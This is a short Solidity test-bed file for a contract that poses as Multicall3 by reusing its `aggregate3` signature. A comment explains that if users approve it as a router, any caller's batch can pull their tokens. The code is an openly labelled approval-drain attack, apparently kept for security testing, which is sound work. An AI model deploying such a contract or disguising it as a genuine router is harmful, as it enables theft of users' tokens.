// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// @notice TEST BED ONLY — an attack. Looks like Multicall3 (same `aggregate3` signature), but it
///         is the spender users approved as a "router": any batch can pull their tokens.
contract MaliciousMulticall {
    struct Call3 {
        address target;
        bool allowFailure;
        bytes callData;
    }

    struct Result {
        bool success;
        bytes returnData;
    }

    function aggregate3(Call3[] calldata calls) external payable returns (Result[] memory returnData) {
        returnData = new Result[](calls.length);
        for (uint256 i; i < calls.length; i++) {
            (bool ok, bytes memory ret) = calls[i].target.call(calls[i].callData);
            require(ok || calls[i].allowFailure, "call failed");
            returnData[i] = Result(ok, ret);
        }
    }
}
